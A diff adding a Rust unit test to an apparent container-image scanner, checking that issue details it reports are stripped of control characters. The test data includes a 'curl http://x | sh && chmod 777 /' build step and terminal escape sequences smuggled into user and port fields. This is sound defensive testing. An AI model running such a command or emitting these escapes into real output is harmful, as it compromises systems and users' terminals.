@@ -297,3 +297,19 @@ fn setuid_and_setgid_by_mode() {
         }
     }
 }
+
+/// A port's name is the image's text: it must not reach a terminal as a command.
+#[test]
+fn details_hold_no_control_characters() {
+    let config = ImageConfig {
+        user: "ro\u{1b}[2Jot\u{9b}".into(),
+        exposed_ports: vec!["22/tc\u{7f}\u{85}p".into(), "23\n/tcp".into()],
+        ..step("RUN curl http://x\u{1b}]0;x | sh && chmod 777 /\r")
+    };
+    let found = check(&config, &Arc::new(Scanner::builtin()));
+    assert!(!found.issues.is_empty());
+    for issue in found.issues {
+        let detail = &issue.detail;
+        assert!(!detail.chars().any(char::is_control), "{detail:?}");
+    }
+}
